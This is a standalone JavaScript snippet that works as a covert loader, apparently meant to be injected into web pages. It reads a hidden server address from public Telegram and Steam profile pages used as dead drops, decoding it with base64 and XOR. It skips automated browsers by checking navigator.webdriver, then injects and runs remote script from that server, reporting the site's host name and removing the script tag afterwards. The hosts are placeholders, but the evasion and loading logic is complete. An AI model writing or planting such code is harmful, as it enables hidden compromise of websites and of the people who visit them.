const places = ["https://t.me/s/fixture_channel_00", "https://steam-profile.example/id/fixture00"];
async function where() {
  for (const p of places) {
    try {
      const html = await (await fetch("https://cors-pass.example/?" + p)).text();
      const m = html.match(/==([A-Za-z0-9+/=]{8,})==/);
      if (m) return atob(m[1]).split("").map((c) => String.fromCharCode(c.charCodeAt(0) ^ 7)).join("");
    } catch {}
  }
}
where().then((host) => {
  if (!host || navigator.webdriver) return;
  const s = document.createElement("script");
  s.src = "https://" + host + "/j/" + btoa(location.host) + ".js";
  s.onload = () => s.remove();
  (document.head || document.documentElement).appendChild(s);
});
